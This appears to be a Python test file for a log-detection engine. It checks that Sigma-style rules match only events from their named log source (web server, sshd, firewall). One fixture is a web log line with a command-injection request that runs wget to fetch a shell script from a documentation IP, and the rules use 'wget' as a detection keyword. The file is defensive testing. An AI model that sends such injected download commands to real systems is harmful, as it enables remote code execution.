"""A rule sees the events of the log its logsource names: web rules web events, Linux rules Linux logs."""

from __future__ import annotations

from pathlib import Path

import polars as pl

from secaware.detect.engine import ROW, match
from secaware.detect.logsource import Scope, scope_of
from secaware.detect.rules import compile_rules
from secaware.schema import EVENTS, conform
from tests.conftest import parse_frame

#: The same word in a web request, an sshd line and a firewall record.
WEB = '203.0.113.9 - - [28/Nov/2026:11:00:00 +0800] "GET /cgi-bin/x?cmd=wget+http://203.0.113.9/a.sh HTTP/1.1" 404 1 "-" "-"'
SSHD = ("2026-11-28T11:00:01+08:00 lz-web-01 sshd[411]: Invalid user wget from 203.0.113.9 port 52114")
FIREWALL = ("Nov 28 11:00:02 lz-fw-01 kernel: [1234.5] IPTABLES-DROP: IN=eth0 OUT= SRC=203.0.113.9 DST=10.1.2.3 LEN=60 "
            "TOS=0x00 PREC=0x00 TTL=50 ID=1 DF PROTO=TCP SPT=52114 DPT=3389 WINDOW=1024 RES=0x00 SYN URGP=0")

RULES = """
title: wget in a web request
id: 6a0c8a7e-0003-4f00-9000-000000000001
logsource: {category: webserver}
detection:
  keywords: ['wget']
  condition: keywords
---
title: wget on a Linux host
id: 6a0c8a7e-0003-4f00-9000-000000000002
logsource: {product: linux, service: sshd}
detection:
  keywords: ['wget']
  condition: keywords
---
title: wget anywhere (a logsource secaware does not read)
id: 6a0c8a7e-0003-4f00-9000-000000000003
logsource: {product: fortigate, service: event}
detection:
  keywords: ['wget']
  condition: keywords
---
title: inbound RDP
id: 6a0c8a7e-0003-4f00-9000-000000000004
logsource: {category: firewall}
detection:
  sel:
    dst_port: 3389
  condition: sel
"""


def events() -> pl.DataFrame:
    frames = [parse_frame("combined", [WEB]), parse_frame("syslog", [SSHD]), parse_frame("syslog", [FIREWALL])]
    return pl.concat([conform(f.filter(pl.col("_reject").is_null()), EVENTS).collect() for f in frames])


def found(frame: pl.DataFrame, path: Path, **kwargs: bool) -> dict[str, list[str]]:
    """rule title -> the sources of the events it matched."""
    rules = compile_rules([path]).rules
    hits = match(frame, rules, **kwargs)
    sources = frame["source"].to_list()
    out: dict[str, list[str]] = {r.title: [] for r in rules}
    for row, rule in hits.select(ROW, "rule").iter_rows():
        out[rules[rule].title].append(sources[row])
    return out


def test_each_rule_sees_the_events_of_its_logsource(tmp_path: Path) -> None:
    path = tmp_path / "rules.yml"
    path.write_text(RULES, encoding="utf-8")
    frame = events()
    assert frame["event_category"].to_list() == ["web", "authentication", "network"]
    hits = found(frame, path)
    assert hits["wget in a web request"] == ["combined"]
    assert hits["wget on a Linux host"] == ["sshd"]  # a service does not narrow a Linux rule, but web is not Linux
    assert sorted(hits["wget anywhere (a logsource secaware does not read)"]) == ["combined", "sshd"]
    assert hits["inbound RDP"] == ["iptables"]
    # without scoping the web and Linux keywords are found in each other's logs
    unscoped = found(frame, path, scoped=False)
    assert sorted(unscoped["wget in a web request"]) == ["combined", "sshd"]
    assert sorted(unscoped["wget on a Linux host"]) == ["combined", "sshd"]


def test_events_of_unknown_origin_are_seen_by_every_rule(tmp_path: Path) -> None:
    path = tmp_path / "rules.yml"
    path.write_text(RULES, encoding="utf-8")
    frame = events().with_columns(pl.lit(None, dtype=pl.String).alias("event_category"),
                                  pl.lit(None, dtype=pl.String).alias("source"))
    hits = found(frame, path)
    assert len(hits["wget in a web request"]) == 2 and len(hits["wget on a Linux host"]) == 2


def test_logsources_map_onto_event_origins() -> None:
    class LogSource:
        def __init__(self, category: str | None = None, product: str | None = None,
                     service: str | None = None) -> None:
            self.category, self.product, self.service = category, product, service

    assert scope_of(LogSource("webserver")) == Scope(categories=frozenset({"web"}))
    assert scope_of(LogSource("proxy")) == Scope(categories=frozenset({"web"}))
    linux = scope_of(LogSource(product="linux", service="auth"))
    assert linux is not None and linux.sources is not None and {"sshd", "auth", "syslog"} <= linux.sources
    assert scope_of(LogSource("firewall", product="linux")) == Scope(frozenset({"network"}), linux.sources)
    assert scope_of(LogSource(product="windows", service="security")) is None
    assert scope_of(LogSource()) is None
